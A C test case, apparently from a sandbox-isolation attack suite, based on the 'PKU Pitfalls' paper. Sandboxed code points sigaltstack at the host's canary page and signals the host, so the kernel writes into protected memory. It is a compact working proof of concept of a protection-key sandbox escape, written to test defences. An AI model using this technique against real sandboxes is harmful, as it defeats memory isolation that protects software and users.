/* Tries: to have the kernel write a signal's frame into the host's memory: a signal stack there,
 *   and a signal
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: A canary that has changed.
 * Needs: linux */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    uint64_t stack[3] = {at->canary_page, 0, 4096};
    kernel3(SYS_sigaltstack, ADDRESS(stack), 0, 0);
    kernel3(SYS_kill, at->host_process, 12, 0);
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include <signal.h>

static void LOCAL(handle)(int signal)
{
    (void)signal;
}

HOST(before)
{
    struct sigaction action = {.sa_handler = LOCAL(handle), .sa_flags = SA_ONSTACK};
    (void)host;
    sigaction(SIGUSR2, &action, NULL);
}
#endif
